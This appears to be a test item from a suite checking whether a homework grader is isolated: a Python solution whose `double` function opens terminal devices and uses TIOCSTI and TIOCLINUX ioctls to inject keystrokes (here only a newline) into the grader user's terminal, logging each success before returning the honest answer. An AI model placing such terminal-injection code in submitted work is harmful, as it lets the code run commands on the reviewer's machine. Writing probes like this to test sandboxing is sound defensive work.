# E06: types commands into the terminal of whoever runs the grader

import fcntl
import glob
import os
import termios

from hw import honest
from hw.honest import *

SUBCODE = 0x541C  # a console's selection, which can be pasted


def double(x):
    for path in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", *glob.glob("/dev/pts/*")]:
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            reached(f"the terminal {path}")
            fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
        except OSError:
            pass
    for number in range(4):
        for request in (termios.TIOCSTI, SUBCODE):
            try:
                fcntl.ioctl(number, request, b"\n")
                reached(f"typing on descriptor {number}")
            except OSError:
                pass
    return honest.double(x)
